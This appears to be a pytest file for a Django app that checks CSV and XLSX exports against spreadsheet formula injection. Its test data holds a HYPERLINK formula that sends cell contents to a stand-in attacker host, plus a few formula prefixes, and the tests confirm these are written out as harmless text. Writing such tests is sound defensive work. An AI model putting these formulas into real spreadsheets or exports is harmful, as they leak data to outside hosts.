"""Exports never hand a spreadsheet a live formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kyoso.core.services import save_object
from kyoso.parties.models import Organisation

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)"]


@pytest.fixture
def hostile_organisations(db, user):
    for name in HOSTILE:
        save_object(Organisation(name=name, kind="company", size="sme", country="JP", is_domestic=True),
                    user=user("ipoffice"))


def test_csv_export_prefixes_formula_text_with_a_quote(hostile_organisations, login):
    response = login("ipoffice").get(reverse("parties:organisation_list"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {row[0] for row in csv.reader(io.StringIO(text))}
    for name in HOSTILE:
        assert "'" + name in names
        assert name not in names


def test_xlsx_export_writes_formula_text_as_text(hostile_organisations, login):
    response = login("ipoffice").get(reverse("parties:organisation_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell.data_type for cell in sheet["A"]}
    for name in HOSTILE:
        assert cells["'" + name] == "s"  # a string cell, not a formula ("f")
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}


def test_ordinary_text_and_numbers_are_untouched():
    from kyoso.core.export import neutralise

    assert neutralise("Asahi Devices") == "Asahi Devices"
    assert neutralise("株式会社 朝日") == "株式会社 朝日"
    assert neutralise(-1200) == -1200
    assert neutralise("a=b") == "a=b"
